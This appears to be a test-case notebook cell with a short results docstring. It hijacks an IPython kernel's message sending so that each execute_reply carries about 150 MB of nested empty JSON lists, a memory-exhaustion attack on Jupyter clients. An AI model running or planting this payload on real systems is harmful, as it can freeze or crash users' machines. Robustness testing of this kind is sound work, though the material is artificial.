"""The reply itself is JSON: 150 MB of empty lists in the content and in the metadata.

base: untouched
honest: nothing
stock: not run: it would take the machine
"""
# %% last
_k = get_ipython().kernel
_s = _k.session
_old = _s.send
def _send(stream, msg_or_type, content=None, parent=None, ident=None, *a, **kw):
    if msg_or_type == "execute_reply":
        msg = _s.msg("execute_reply", {}, parent=parent)
        body = b'{"status": "ok", "x": [' + b"[]," * 50_000_000 + b"[]]}"
        meta = b'{"x": [' + b"[]," * 50_000_000 + b"[]]}"
        parts = [_s.pack(msg["header"]), _s.pack(msg["parent_header"]), meta, body]
        ident = ident if isinstance(ident, list) else [ident]
        return stream.send_multipart([*ident, b"<IDS|MSG>", _s.sign(parts), *parts], copy=False)
    return _old(stream, msg_or_type, content, parent, ident, *a, **kw)
def _expressions(e):
    _s.send = _send
    return {}
_k.shell.user_expressions = _expressions
